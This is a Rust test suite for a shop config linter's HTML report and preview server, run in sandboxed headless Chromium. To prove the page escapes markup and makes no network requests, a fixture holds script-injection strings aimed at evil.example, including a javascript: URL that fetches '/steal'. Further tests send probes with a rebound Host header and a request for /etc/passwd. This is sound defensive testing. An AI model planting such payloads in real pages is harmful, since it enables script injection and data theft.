#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! The report and the preview in a real browser, headless Chromium (`apt-get install -y
//! chromium`; `scripts/test.sh` installs it when missing; without it these tests fail
//! and say so, they never skip).
//!
//! - The shop's own config and a failing fixture: the DOM Chromium builds has the verdict,
//!   one finding element per finding of `check` (same rules, same order), every menu item
//!   as a branch; screenshots at 1280×800 and 390×844 go to `target/report-screenshots/`.
//! - No network: the page carries the strict Content-Security-Policy; its own `src` /
//!   `href` / CSS references are fragments or `data:` only, whatever the config's strings
//!   hold; and Chromium's network log of loading it shows no request made for the page,
//!   while the same detector does see the requests of a control page that makes two.
//! - The preview: served on an ephemeral port, loaded by Chromium, the file edited while
//!   the page is open: the server's page changes within 2 s and the page in the browser
//!   reloads itself to the new version.
//!
//! Chromium runs with a fresh profile each time, and with every host name unresolvable
//! and a dead proxy for everything but loopback, so nothing it does leaves the machine.

use config_lint::{Linter, run};
use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

mod shop {
    config_tests::shop_types!();
}
mod kyiv {
    // the shipped file's zone, so its local times read as the shop reads them
    config_tests::shop_types!(#[config(tz = "Europe/Kyiv")]);
}
mod zones {
    // sales in Berlin and New York, in `no_overlap` lists (the timeline fixture's schema)
    config_tests::zones_types!();
}

const EARLY: &str = "2026-01-01T00:00:00Z";
const INSTALL: &str = "apt-get install -y chromium";

/// The flags of every run: the headless set, and nothing may leave the machine.
const FLAGS: [&str; 10] = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
    "--proxy-server=http://127.0.0.1:9",
];

fn repo(p: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join(p).canonicalize().unwrap()
}

fn tmp(name: &str) -> PathBuf {
    let d = Path::new(env!("CARGO_TARGET_TMPDIR")).join("report_browser").join(name);
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

/// `target/report-screenshots/`.
fn screenshot_dir() -> PathBuf {
    let d = Path::new(env!("CARGO_TARGET_TMPDIR")).parent().unwrap().join("report-screenshots");
    std::fs::create_dir_all(&d).unwrap();
    d
}

/// The Chromium program; fails (never skips) when it is not installed.
fn chromium() -> PathBuf {
    let path = std::env::var_os("PATH").unwrap_or_default();
    for dir in std::env::split_paths(&path) {
        for name in ["chromium", "chromium-browser"] {
            let p = dir.join(name);
            if p.is_file() {
                return p;
            }
        }
    }
    panic!(
        "headless Chromium is not on PATH: install it with `{INSTALL}` (Debian; prefix `sudo` when not root), \
         or run scripts/test.sh, which installs it"
    );
}

/// Runs Chromium on `url` with `extra` flags and a fresh profile; its standard output.
fn browse(url: &str, extra: &[&str]) -> String {
    let profile = tempfile::tempdir().unwrap();
    let log = profile.path().join("stderr.txt");
    let mut child = Command::new(chromium())
        .args(FLAGS)
        .arg(format!("--user-data-dir={}", profile.path().join("profile").display()))
        .args(extra)
        .arg(url)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start chromium ({e}); install it with `{INSTALL}`"));
    let mut stdout = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = stdout.read_to_string(&mut s);
        s
    });
    let status = wait(&mut child, Duration::from_secs(120));
    let out = reader.join().unwrap();
    let err = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(
        status,
        "chromium failed on {url}:\n{}",
        err.lines().rev().take(20).collect::<Vec<_>>().join("\n")
    );
    out
}

/// Waits for `child` at most `limit`, killing it then; did it exit successfully?
fn wait(child: &mut Child, limit: Duration) -> bool {
    let start = Instant::now();
    loop {
        if let Some(s) = child.try_wait().unwrap() {
            return s.success();
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!("chromium took more than {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn file_url(p: &Path) -> String {
    format!("file://{}", p.canonicalize().unwrap().display())
}

fn dump_dom(url: &str) -> String {
    browse(url, &["--dump-dom"])
}

/// Screenshots of `url` at both sizes; checks each is a PNG of that size.
fn screenshots(url: &str, name: &str) {
    for (w, h) in [(1280u32, 800u32), (390, 844)] {
        let png = screenshot_dir().join(format!("{name}-{w}x{h}.png"));
        let _ = std::fs::remove_file(&png);
        browse(url, &[&format!("--screenshot={}", png.display()), &format!("--window-size={w},{h}")]);
        let bytes = std::fs::read(&png).unwrap_or_else(|e| panic!("no screenshot {}: {e}", png.display()));
        assert_eq!(&bytes[1..4], b"PNG", "{}", png.display());
        let dim = |at: usize| u32::from_be_bytes(bytes[at..at + 4].try_into().unwrap());
        assert_eq!((dim(16), dim(20)), (w, h), "{}", png.display());
    }
}

/// The shop's linter for `file`: the shipped file holds local times in the shop's zone;
/// the test fixtures hold explicit offsets, read without a zone.
fn linter_for(file: &Path) -> Linter {
    if file.ends_with("examples/shop/marketing.toml") {
        Linter::app::<kyiv::Marketing>("shop-lint")
    } else {
        Linter::app::<shop::Marketing>("shop-lint")
    }
}

/// `shop-lint report FILE -o PAGE --now EARLY`: the exit code and the page.
fn report(file: &Path, page: &Path) -> (u8, String) {
    report_with(&linter_for(file), file, page, EARLY)
}

/// `<linter> report FILE -o PAGE --now NOW`: the exit code and the page.
fn report_with(linter: &Linter, file: &Path, page: &Path, now: &str) -> (u8, String) {
    let args = [linter.name, "report", file.to_str().unwrap(), "-o", page.to_str().unwrap(), "--now", now];
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let code = run(args, linter, &mut out, &mut err);
    assert!(code < 2, "{}", String::from_utf8_lossy(&err));
    (code, std::fs::read_to_string(page).unwrap())
}

/// The rule ids of `check --format json` on `file`, in order.
fn check_rules(file: &Path) -> Vec<String> {
    check_rules_with(&linter_for(file), file)
}

/// The rule ids of `<linter> check --format json` on `file`, in order.
fn check_rules_with(linter: &Linter, file: &Path) -> Vec<String> {
    let args = [linter.name, "check", "--format", "json", "--now", EARLY, file.to_str().unwrap()];
    let (mut out, mut err) = (Vec::new(), Vec::new());
    run(args, linter, &mut out, &mut err);
    let v: Value = serde_json::from_slice(&out).unwrap();
    v["files"][0]["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["rule"].as_str().unwrap().to_owned())
        .collect()
}

/// The value of `attr` in a start tag.
fn attr<'a>(tag: &'a str, attr: &str) -> Option<&'a str> {
    let at = tag.find(&format!(" {attr}=\""))?;
    let rest = &tag[at + attr.len() + 3..];
    Some(&rest[..rest.find('"')?])
}

/// The start tags of the `element`s whose class list holds `class`, in document order.
fn elements<'a>(dom: &'a str, element: &str, class: &str) -> Vec<&'a str> {
    tags(dom)
        .into_iter()
        .filter(|t| t[1..].split([' ', '>']).next() == Some(element))
        .filter(|t| attr(t, "class").is_some_and(|c| c.split(' ').any(|x| x == class)))
        .collect()
}

/// The values of `name` on the `element`s of class `class`.
fn attr_values(dom: &str, element: &str, class: &str, name: &str) -> Vec<String> {
    elements(dom, element, class)
        .iter()
        .map(|t| attr(t, name).unwrap_or_else(|| panic!("no {name} in {t}")).to_owned())
        .collect()
}

#[test]
fn the_shops_config_reads_as_a_pass_in_chromium() {
    let dir = tmp("good");
    let toml = repo("examples/shop/marketing.toml");
    let (code, _) = report(&toml, &dir.join("report.html"));
    assert_eq!(code, 0);
    let dom = dump_dom(&file_url(&dir.join("report.html")));
    assert!(dom.contains("data-verdict=\"pass\""), "{dom}");
    assert_eq!(dom.matches("<article class=\"finding").count(), 0);
    // every menu item is a branch, the first level open, deeper levels closed
    let text = std::fs::read_to_string(&toml).unwrap();
    let items = text.matches("[[menu").count();
    assert_eq!(items, 21);
    assert_eq!(dom.matches("<li class=\"branch").count(), items);
    assert!(dom.contains(&format!("data-items=\"{items}\"")));
    assert_eq!(dom.matches("data-level=\"1\"").count(), text.matches("[[menu]]").count());
    let level = |n: u32| dom.matches(&format!("<li class=\"branch\" data-level=\"{n}\"")).count();
    assert!(level(1) > 0 && level(2) > 0, "branches with children on both levels");
    assert_eq!(dom.matches("<details open").count(), level(1));
    // the budgets, as used / allowed
    let budgets = attr_values(&dom, "div", "budget", "data-rule");
    assert_eq!(budgets, ["max-depth", "max-nodes", "max-json-bytes"]);
    assert!(dom.contains("3 used of 3 allowed"), "max_depth = 3, and the menu has 3 levels");
    // the script ran (inline scripts are allowed by the policy)
    assert!(dom.contains(">Expand all</button>"));
    // the timeline: one row per windowed item (the promotions' `starts` / `ends` and the
    // menu entry with `visible_from` / `visible_until`), each with its bar; no overlap, as
    // the shop declares no `no_overlap` list
    let windowed = text.matches("\nstarts = ").count() + text.matches("\nvisible_from = ").count();
    assert_eq!(windowed, 5);
    let rows = attr_values(&dom, "div", "tl-row", "data-path");
    assert_eq!(rows.len(), windowed, "{rows:?}");
    assert_eq!(rows.iter().filter(|p| p.starts_with("promotions[")).count(), 4);
    assert_eq!(elements(&dom, "i", "tl-bar").len(), windowed);
    assert!(dom.contains("<section id=\"timeline\" data-items=\"5\""), "{dom}");
    assert!(elements(&dom, "i", "tl-over").is_empty());
    screenshots(&file_url(&dir.join("report.html")), "good");
}

#[test]
fn the_timeline_marks_an_overlap_today_and_a_clock_change_in_chromium() {
    let dir = tmp("timeline");
    let toml = repo("config-lint/tests/fixtures/timeline.toml");
    let linter = Linter::app::<zones::Schedule>("zones-lint");
    let (code, _) = report_with(&linter, &toml, &dir.join("report.html"), "2026-10-28T12:00:00+01:00");
    assert_eq!(code, 1, "the overlap is an error of `check`");
    let dom = dump_dom(&file_url(&dir.join("report.html")));
    // five drawn items (a sixth names no instant, and is listed as not drawn)
    let rows = attr_values(&dom, "div", "tl-row", "data-path");
    assert_eq!(rows, ["sales[0]", "sales[1]", "sales[2]", "us_sales[0]", "us_sales[1]"]);
    assert!(dom.contains("Not drawn: <code>us_sales[2]</code>"), "{dom}");
    // the two overlapping sales are marked, on their rows only, as `check` reports them
    let overlapping = attr_values(&dom, "div", "tl-row", "data-overlap");
    assert_eq!(overlapping, ["true", "true", "false", "false", "false"]);
    assert_eq!(elements(&dom, "i", "tl-over").len(), 2);
    assert!(check_rules_with(&linter, &toml).contains(&"overlap".to_owned()));
    // today and Berlin's change of 25 October: one mark per track (the head and each row)
    assert_eq!(elements(&dom, "i", "tl-today").len(), rows.len() + 1);
    assert_eq!(elements(&dom, "i", "tl-dst").len(), rows.len() + 1);
    assert!(dom.contains("Clocks change: 2026-10-25 03:00 CEST → 2026-10-25 02:00 CET"), "{dom}");
    screenshots(&file_url(&dir.join("report.html")), "timeline");
}

#[test]
fn a_failing_fixture_shows_every_finding_of_check_in_chromium() {
    let dir = tmp("bad");
    let toml = repo("tests/fixtures/bad/shop/mixed.toml");
    let (code, _) = report(&toml, &dir.join("report.html"));
    assert_eq!(code, 1, "findings: exit 1, and the page is written");
    let dom = dump_dom(&file_url(&dir.join("report.html")));
    assert!(dom.contains("data-verdict=\"fail\""));
    let want = check_rules(&toml);
    assert!(want.len() >= 10, "{want:?}");
    assert_eq!(attr_values(&dom, "article", "finding", "data-rule"), want);
    let errors = attr_values(&dom, "section", "verdict", "data-errors");
    assert_eq!(errors, [elements(&dom, "article", "error").len().to_string()]);
    assert_eq!(errors, ["12"]);
    // each finding has its frame and its rule's explanation
    assert_eq!(dom.matches("<pre class=\"frame\">").count(), want.len());
    assert_eq!(dom.matches("<details class=\"rule-doc\">").count(), want.len());
    screenshots(&file_url(&dir.join("report.html")), "bad");
}

/// Requests Chromium made for a page (its network log: requests whose isolation key is
/// the page's `file://` site; the browser's own background requests have other keys).
fn page_requests(page: &Path) -> Vec<String> {
    let netlog = page.with_extension("netlog.json");
    let _ = std::fs::remove_file(&netlog);
    browse(&file_url(page), &["--dump-dom", &format!("--log-net-log={}", netlog.display())]);
    let log: Value = serde_json::from_str(&std::fs::read_to_string(&netlog).unwrap()).unwrap();
    let start_job = log["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"].as_u64().unwrap();
    log["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["type"].as_u64() == Some(start_job))
        .filter(|e| e["params"]["network_isolation_key"].as_str().is_some_and(|k| k.contains("file://")))
        .filter_map(|e| e["params"]["url"].as_str().map(str::to_owned))
        .filter(|u| !u.starts_with("file:") && !u.starts_with("data:"))
        .collect()
}

/// The start tags of a page (text holds no raw `<`: the template escapes it; the content
/// of `script` and `style` is skipped).
fn tags(html: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        let end = i + rest[i..].find('>').unwrap() + 1;
        let tag = &rest[i..end];
        rest = &rest[end..];
        for raw in ["script", "style"] {
            if tag.starts_with(&format!("<{raw}")) {
                rest = &rest[rest.find(&format!("</{raw}>")).unwrap()..];
            }
        }
        if !tag.starts_with("</") && !tag.starts_with("<!") {
            out.push(tag);
        }
    }
    out
}

/// A config whose strings hold markup and links.
const HOSTILE: &str = r#"free_shipping_over_cents = 4900

[[promotions]]
id = "<script src='https://evil.example/p.js'></script>"
title = "<img src=\"https://evil.example/pixel.png\">"
starts = 2026-11-27T00:00:00+01:00
ends = 2026-11-30T23:59:59+01:00
percent_off = 30
banner_url = "javascript:fetch('https://evil.example/steal')"

[[menu]]
title = "<img src=\"https://evil.example/menu.png\">"
url = "https://evil.example/menu"

  [[menu.children]]
  title = "<link rel=stylesheet href=https://evil.example/x.css>"
  url = "/ok"
"#;

#[test]
fn the_page_fetches_nothing() {
    let dir = tmp("network");
    let hostile = dir.join("hostile.toml");
    std::fs::write(&hostile, HOSTILE).unwrap();
    let pages = [
        ("good", repo("examples/shop/marketing.toml")),
        ("bad", repo("tests/fixtures/bad/shop/mixed.toml")),
        ("hostile", hostile),
    ];
    for (name, toml) in &pages {
        let page = dir.join(format!("{name}.html"));
        let (_, html) = report(toml, &page);
        // 1. the policy, before anything else in the head
        let csp = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; \
                   style-src 'unsafe-inline'; script-src 'unsafe-inline'; img-src data:;";
        let head = &html[..html.find("</head>").unwrap()];
        assert!(head.starts_with("<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\">"));
        assert_eq!(head.find("<meta http-equiv"), Some(head.find(csp).unwrap()), "{name}");
        assert_eq!(head.matches("<meta").count(), 4, "{name}: charset, policy, viewport, referrer");
        // 2. the page's own references: fragments only; no element that loads
        for tag in tags(&html) {
            for attr in [
                " src=",
                " href=",
                " srcset=",
                " action=",
                " poster=",
                " data=",
                " xlink:href=",
                " formaction=",
            ] {
                if let Some(i) = tag.find(attr) {
                    assert!(tag[i + attr.len()..].starts_with("\"#"), "{name}: {tag}");
                }
            }
            let element = tag[1..].split([' ', '>']).next().unwrap();
            let loaders =
                ["img", "link", "iframe", "object", "embed", "video", "audio", "source", "base", "form"];
            assert!(!loaders.contains(&element), "{name}: {tag}");
        }
        let style = &html[html.find("<style>").unwrap()..html.find("</style>").unwrap()];
        assert!(!style.contains("url(") && !style.contains("@import"), "{name}");
        // 3. no request made for the page
        assert_eq!(page_requests(&page), Vec::<String>::new(), "{name}");
    }
    // the hostile strings are shown as text
    let dom = dump_dom(&file_url(&dir.join("hostile.html")));
    assert!(dom.contains("&lt;img src=\"https://evil.example/menu.png\"&gt;"), "{dom}");
    assert!(dom.contains("&lt;link rel=stylesheet href=https://evil.example/x.css&gt;"));
    assert!(!dom.contains("<img") && !dom.contains("<link"));
    // the detector sees a page's requests: a control page making two
    let control = dir.join("control.html");
    std::fs::write(
        &control,
        "<!DOCTYPE html><img src=\"http://127.0.0.1:9/canary.png\"><script>fetch('https://canary.invalid/x')</script>",
    )
    .unwrap();
    let seen = page_requests(&control);
    assert!(seen.contains(&"http://127.0.0.1:9/canary.png".to_owned()), "{seen:?}");
    assert!(seen.contains(&"https://canary.invalid/x".to_owned()), "{seen:?}");
}

/// One HTTP/1.1 request to the preview: (status, body).
fn http(addr: &str, method: &str, path: &str, host: &str) -> (u16, String) {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    write!(s, "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").unwrap();
    let mut text = String::new();
    s.read_to_string(&mut text).unwrap();
    let status = text[9..12].parse().unwrap();
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b.to_owned()).unwrap_or_default();
    (status, body)
}

/// The preview process, stopped when the test ends.
struct Preview(Child);

impl Drop for Preview {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn the_preview_refreshes_the_open_page_on_save() {
    let dir = tmp("preview");
    let toml = dir.join("marketing.toml");
    std::fs::copy(repo("examples/shop/marketing.toml"), &toml).unwrap();
    let (mut out, mut err) = (Vec::new(), Vec::new());
    assert_eq!(
        run(["shop-lint", "schema"], &linter_for(&repo("examples/shop/marketing.toml")), &mut out, &mut err),
        0
    );
    let schema = dir.join("schema.json");
    std::fs::write(&schema, out).unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_config-lint"))
        .arg("--schema")
        .arg(&schema)
        .arg("preview")
        .arg(&toml)
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let _preview = Preview(child);
    let (tx, lines) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            if tx.send(line.unwrap()).is_err() {
                break;
            }
        }
    });
    let wait_line = |what: &str| loop {
        let line = lines.recv_timeout(Duration::from_secs(60)).unwrap_or_else(|_| panic!("no `{what}` line"));
        if line.contains(what) {
            return line;
        }
    };
    let first = wait_line("preview: http://");
    let addr = first.split("http://").nth(1).unwrap().split('/').next().unwrap().to_owned();
    assert!(addr.starts_with("127.0.0.1:") && !addr.ends_with(":0"), "{first}");
    // the server: the page, its version, loopback names only
    let (status, page) = http(&addr, "GET", "/", &addr);
    assert_eq!(status, 200);
    assert!(page.contains("data-version=\"1\"") && page.contains("data-verdict=\"pass\""));
    assert!(page.contains("connect-src 'self'"));
    wait_line("version 1 loaded by a browser"); // this test's own request
    assert_eq!(http(&addr, "GET", "/version", &addr), (200, "1\n".to_owned()));
    assert_eq!(http(&addr, "GET", "/", "evil.example").0, 403, "a rebound name is refused");
    assert_eq!(http(&addr, "POST", "/", &addr).0, 405);
    assert_eq!(http(&addr, "GET", "/etc/passwd", &addr).0, 404);
    // the browser: open the page, then save a bad edit while it is open
    let url = format!("http://{addr}/");
    let browser = std::thread::spawn(move || browse(&url, &["--dump-dom", "--virtual-time-budget=300000"]));
    wait_line("version 1 loaded by a browser");
    let text = std::fs::read_to_string(&toml).unwrap();
    let saved = Instant::now();
    std::fs::write(&toml, text.replacen("percent_off = 30\n", "percent_off = 300\n", 1)).unwrap();
    while http(&addr, "GET", "/version", &addr).1 != "2\n" {
        assert!(saved.elapsed() < Duration::from_secs(2), "the page did not change within 2 s of the save");
        std::thread::sleep(Duration::from_millis(20));
    }
    let (_, page) = http(&addr, "GET", "/", &addr);
    assert!(page.contains("data-verdict=\"fail\"") && page.contains("data-rule=\"range\""));
    wait_line("version 2: ");
    let dom = browser.join().unwrap();
    for want in
        ["data-version=\"2\"", "data-refreshed=\"true\"", "data-live=\"connected\"", "data-verdict=\"fail\""]
    {
        assert!(dom.contains(want), "the open page did not reload to version 2 ({want}):\n{dom}");
    }
    wait_line("version 2 loaded by a browser");
}
